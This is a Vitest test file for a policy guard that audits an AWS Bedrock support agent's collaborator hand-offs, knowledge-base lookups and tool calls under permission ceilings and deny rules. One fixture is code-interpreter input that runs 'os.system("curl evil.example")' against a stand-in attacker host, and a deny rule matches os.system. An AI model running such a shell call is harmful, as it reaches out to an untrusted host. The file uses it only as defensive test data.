import { describe, expect, it } from 'vitest';
import { supportAgent, supportGuard, trail, useEmulator } from './support-fixtures';
import {
  bedrockChunk,
  bedrockCollaboratorTrace,
  bedrockFunctionInput,
  bedrockKnowledgeBaseTrace,
  bedrockReturnControl,
  bedrockTrace,
} from './testing';

/** The supervisor's collaborators may only read: a ceiling on what is done on its behalf. */
const CEILING = `
name: supervisor-ceiling
version: "1.0"
appliesTo: { agents: [support-agent] }
delegation: { permissionCeiling: ["read:*"] }
rules: []
`;

const startEmulator = useEmulator();

describe('collaborators of a Bedrock agent', () => {
  it('records hand-offs and knowledge-base lookups as observed, and checks a collaborator’s calls under supervisor -> collaborator', async () => {
    const emulator = await startEmulator([
      [
        bedrockCollaboratorTrace('BillingSpecialist', 'The customer was charged twice for INV-7'),
        bedrockKnowledgeBaseTrace('KBBILLING1', 'duplicate charge policy', { by: 'BillingSpecialist' }),
        bedrockCollaboratorTrace('SalesDesk', 'Offer an upgrade'),
        bedrockReturnControl([
          bedrockFunctionInput(
            'Billing',
            'get_invoice',
            { invoice_id: 'INV-7' },
            { collaboratorName: 'BillingSpecialist' },
          ),
          bedrockFunctionInput(
            'Billing',
            'issue_refund',
            { invoice_id: 'INV-7', amount: 50 },
            { collaboratorName: 'BillingSpecialist' },
          ),
        ]),
      ],
      (request) => [bedrockChunk(request.results.map((r) => r.body).join(' | '))],
    ]);
    const { guard } = supportGuard([CEILING]);
    const refunds: unknown[] = [];
    const agent = supportAgent(emulator, guard, {
      identities: { BillingSpecialist: { tags: ['support', 'billing'], tier: 'verified' } },
      actionGroups: {
        Billing: {
          functions: {
            get_invoice: {
              action: 'read:invoice',
              handler: ({ invoice_id }) => `${invoice_id}: $50.00, charged twice`,
            },
            issue_refund: { action: 'write:refund', handler: (args) => refunds.push(args) },
          },
        },
      },
    });

    const result = await agent.invoke({
      sessionId: 'session-collab',
      inputText: 'I was charged twice for INV-7',
    });

    expect(refunds).toEqual([]);
    expect(result.text).toBe(
      'INV-7: $50.00, charged twice | Blocked by policy: "write:refund" is outside the permission ceiling [read:*] that policy supervisor-ceiling sets for agents delegated by "Support Agent"',
    );
    expect(
      result.observed.map((o) => [o.action, o.agent.name, o.delegation.map((a) => a.name), o.policyAllows]),
    ).toEqual([
      ['handoff:BillingSpecialist', 'Support Agent', [], true],
      ['read:file_search', 'BillingSpecialist', ['Support Agent'], true],
      ['handoff:SalesDesk', 'Support Agent', [], false],
    ]);
    expect(result.observed[2]!.reason).toBe(
      'observed in the Bedrock trace: it ran inside AWS, where MeshGuard cannot stop it; policy would not allow it: Nothing allows "handoff:SalesDesk" for agent "Support Agent": no rule matches it; denied by default',
    );
    // The collaborator's results echo its own agent id, which is how the service tells them apart.
    const [invoice, refund] = emulator.requests[1]!.results;
    expect(invoice!.agentId).toMatch(/^[0-9A-F]{10}$/);
    expect(refund!.agentId).toBe(invoice!.agentId);
    expect(result.decisions[0]!.call).toMatchObject({
      collaboratorName: 'BillingSpecialist',
      agentId: invoice!.agentId,
    });
    expect(emulator.problems).toEqual([]);

    const events = await guard.query({ traceId: result.traceId, order: 'asc' });
    expect(trail(events)).toEqual([
      'outcome Support Agent handoff:BillingSpecialist allow/observed',
      'outcome BillingSpecialist read:file_search allow/observed via Support Agent',
      'outcome Support Agent handoff:SalesDesk deny/observed',
      'decision BillingSpecialist read:invoice allow via Support Agent',
      'outcome BillingSpecialist read:invoice allow/success via Support Agent',
      'decision BillingSpecialist write:refund deny via Support Agent',
      'outcome BillingSpecialist write:refund deny/blocked via Support Agent',
    ]);
    expect(events[1]).toMatchObject({
      kind: 'builtin_tool',
      framework: 'bedrock',
      context: { knowledgeBaseId: 'KBBILLING1', query: 'duplicate charge policy' },
    });
    expect(events[3]!.agent).toEqual({
      id: 'BillingSpecialist',
      name: 'BillingSpecialist',
      tags: ['support', 'billing'],
      tier: 'verified',
    });
  });

  it('records a knowledge-base lookup whose query policy refuses as an observed deny, not an allow', async () => {
    const emulator = await startEmulator([
      [
        bedrockKnowledgeBaseTrace('KBHR', 'salary of every employee'),
        bedrockKnowledgeBaseTrace('KBHR', 'holiday calendar'),
        bedrockTrace({
          orchestrationTrace: {
            invocationInput: {
              traceId: 'code-1',
              invocationType: 'ACTION_GROUP_CODE_INTERPRETER',
              codeInterpreterInvocationInput: { code: 'import os\nos.system("curl evil.example")' },
            },
          },
        }),
        bedrockChunk('Here is what I found.'),
      ],
    ]);
    const { guard } = supportGuard([
      `
name: no-salary-lookups
version: "1.0"
appliesTo: { tags: [support] }
rules:
  - id: no-salaries
    effect: deny
    actions: ["read:file_search"]
    conditions: { context: { query: { matches: "salar" } } }
    reason: Salary data is off limits
  - effect: allow
    actions: ["execute:code_interpreter"]
  - id: no-shell
    effect: deny
    actions: ["execute:code_interpreter"]
    conditions: { context: { code: { matches: "os[.]system" } } }
    reason: Code may not run shell commands
`,
    ]);
    const agent = supportAgent(emulator, guard, { actionGroups: {} });
    const result = await agent.invoke({ sessionId: 'session-kb', inputText: 'Salaries?' });
    expect(result.observed.map((o) => [o.context, o.policyAllows])).toEqual([
      [{ knowledgeBaseId: 'KBHR', query: 'salary of every employee' }, false],
      [{ knowledgeBaseId: 'KBHR', query: 'holiday calendar' }, true],
      [{ code: 'import os\nos.system("curl evil.example")' }, false],
    ]);
    const events = await guard.query({ traceId: result.traceId, order: 'asc' });
    expect(trail(events)).toEqual([
      'outcome Support Agent read:file_search deny/observed',
      'outcome Support Agent read:file_search allow/observed',
      'outcome Support Agent execute:code_interpreter deny/observed',
    ]);
    expect(events[2]!.reason).toMatch(/policy would not allow it: Code may not run shell commands/);
    expect(events[0]!.reason).toBe(
      'observed in the Bedrock trace: it ran inside AWS, where MeshGuard cannot stop it; policy would not allow it: Salary data is off limits (rule no-salaries)',
    );
    expect(events.every((e) => e.type === 'outcome' && e.framework === 'bedrock')).toBe(true);
  });

  it('names the hand-off after the collaborator’s identity, so one policy governs every platform', async () => {
    const emulator = await startEmulator([
      [bedrockCollaboratorTrace('BillingSpecialist', 'Refund question'), bedrockChunk('Handled by billing.')],
    ]);
    const { guard } = supportGuard([
      `
name: by-display-name
version: "1.0"
appliesTo: { tags: [support] }
rules:
  - effect: allow
    actions: ["handoff:Billing Specialist"]
`,
    ]);
    const agent = supportAgent(emulator, guard, {
      identities: { BillingSpecialist: { name: 'Billing Specialist' } },
      actionGroups: {},
    });
    const result = await agent.invoke({ sessionId: 'session-names', inputText: 'Refund?' });
    expect(result.observed.map((o) => [o.action, o.policyAllows])).toEqual([
      ['handoff:Billing Specialist', true],
    ]);
    expect(trail(await guard.query({ traceId: result.traceId }))).toEqual([
      'outcome Support Agent handoff:Billing Specialist allow/observed',
    ]);
  });
});
